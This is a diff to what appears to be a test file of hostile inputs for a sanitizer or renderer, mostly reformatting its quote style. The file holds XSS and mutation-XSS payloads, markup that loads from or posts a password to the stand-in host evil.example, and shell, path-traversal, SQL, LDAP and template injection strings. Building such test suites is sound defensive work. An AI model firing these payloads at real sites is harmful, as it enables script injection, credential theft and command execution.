@@ -46,9 +46,9 @@ _TAGS = (
     f"--!><svg/onload={_RUN}><!--",
     f"]]><script>{_RUN}</script><![CDATA[",
     f"</svg></math><script>{_RUN}</script>",
-    f"<noscript><p title=\"</noscript><img src=x onerror={_RUN}>\">",
-    f"<svg></p><style><a id=\"</style><img src=x onerror={_RUN}>\">",
-    f"<x style=animation-name:x onanimationstart={_RUN}></x><style>@keyframes x{{}}</style>"
+    f'<noscript><p title="</noscript><img src=x onerror={_RUN}>">',
+    f'<svg></p><style><a id="</style><img src=x onerror={_RUN}>">',
+    f"<x style=animation-name:x onanimationstart={_RUN}></x><style>@keyframes x{{}}</style>",
     f"<body onload={_RUN}>",
 )  # fmt: skip
 _ATTRIBUTES = {
@@ -61,18 +61,18 @@ _ATTRIBUTES = {
 _OTHERS = (
     # Mutations: they run only after a script has read and written HTML again.
     f"<object data='x:x' onerror={_RUN}></object>",
-    f"<math><mtext><table><mglyph><style><!--</style><img title=\"--><img src=x onerror={_RUN}>\">",
+    f'<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror={_RUN}>">',
     f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={_RUN}>",
     # Things that fetch, lead away or change how the page works, though nothing of theirs runs.
     "<base href=//evil.example/>",
     "<meta http-equiv=refresh content='0;url=//evil.example'>",
-    "<meta http-equiv=Content-Security-Policy content=\"default-src *\">",
+    '<meta http-equiv=Content-Security-Policy content="default-src *">',
     "<meta name=referrer content=unsafe-url><meta charset=utf-7>",
     "<link rel=stylesheet href=//evil.example/a.css><link rel=dns-prefetch href=//evil.example>",
     "<link rel=prefetch href=//evil.example><link rel=icon href=//evil.example/i.png>",
     "<img src=//evil.example/i.png srcset='//evil.example/j.png 2x' loading=eager>",
     "<style>@import '//evil.example/a.css';*{background:url(//evil.example/b)}</style>",
-    "<p style=\"background:url(//evil.example/c);position:fixed;inset:0;z-index:9\">",
+    '<p style="background:url(//evil.example/c);position:fixed;inset:0;z-index:9">',
     "<embed src=//evil.example/e><object data=//evil.example/o></object><frameset><frame src=//evil.example/f>",
     "<form action=//evil.example><button id=search>Go</button><input name=password></form>",
     "<button formaction=//evil.example form=filters>reset</button><input type=search id=search>",
@@ -84,8 +84,8 @@ _OTHERS = (
     f"data:text/html,<script>{_RUN}</script>",
     f"JaVaScRiPt://%0a{_RUN}",
     # Names that shadow what a script looks up.
-    '<form id=filters name=documentElement><input name=querySelector></form><img id=location name=body>',
-    '<a id=matches href=x:1><a id=matches name=value href=x:2><iframe name=top></iframe>',
+    "<form id=filters name=documentElement><input name=querySelector></form><img id=location name=body>",
+    "<a id=matches href=x:1><a id=matches name=value href=x:2><iframe name=top></iframe>",
     "__proto__", "constructor", "prototype", "hasOwnProperty", "toString", "filters", "routes", "overview", "search",
     # Template engines, shells, query languages and the like.
     "{{ 7*7 }}{% raw %}{# x #}${7*7}#{7*7}<%= 7*7 %>[[7*7]]@(7*7)*{7*7}",
@@ -93,7 +93,8 @@ _OTHERS = (
     "$(touch /tmp/owned)`touch /tmp/owned`'; touch /tmp/owned; '\n--output /tmp/owned",
     "*)(uid=*))(|(uid=*' OR 1=1 --", "%s%n%x {0} {} $1 \\1 $& $`",
     # Within CSS and selectors; as a number, a path, a URL fragment.
-    "\\3c script\\3e x\\00003csvg\\20onload\\3d top.owned\\3d 1", 'a"]:not(*){} x[y="', "</STYLE ><!--/*", "*/{}expression(1)",
+    "\\3c script\\3e x\\00003csvg\\20onload\\3d top.owned\\3d 1", 'a"]:not(*){} x[y="', "</STYLE ><!--/*",
+    "*/{}expression(1)",
     "../../../../etc/passwd%00.html", "#q=%3Cscript%3E&verdict=<b>&at=__proto__", "NaN", "-0", "1e999",
     # Encodings: UTF-7, overlong UTF-8 read as latin-1, entities, double encoding, escapes, half- and full-width.
     f"+ADw-script+AD4-{_RUN}+ADw-/script+AD4-",
@@ -109,7 +110,8 @@ _OTHERS = (
     "line\nfeed\rreturn\r\nboth\ttab\u2028line\u2029paragraph\x85next",
     "lone \ud800 surrogates \udfff\udc00\ud83d and \ufffe\uffff\ufdd0",
     "Z\u0351\u036b\u0343\u036a\u0302a\u0334\u0335\u0336l\u0337\u0338g\u0315\u031bo" * 9,
-    "\U0001f468\u200d\U0001f469\u200d\U0001f467 \u0627\u0644\u0639\u0631\u0628\u064a\u0629 \u05d0\u05d1\u05d2 \u4e2d\u6587",
+    "\U0001f468\u200d\U0001f469\u200d\U0001f467 \u0627\u0644\u0639\u0631\u0628\u064a\u0629",
+    "\u05d0\u05d1\u05d2 \u4e2d\u6587",
     # Shapes: long without a space, many spaces, many lines, nothing at all.
     "A" * 1_500, "/a" * 500, " " * 200 + "x", "\n" * 20 + "x", "", " ", "'", '"', "`", "<", ">", "&", "\\", "</",
 )  # fmt: skip
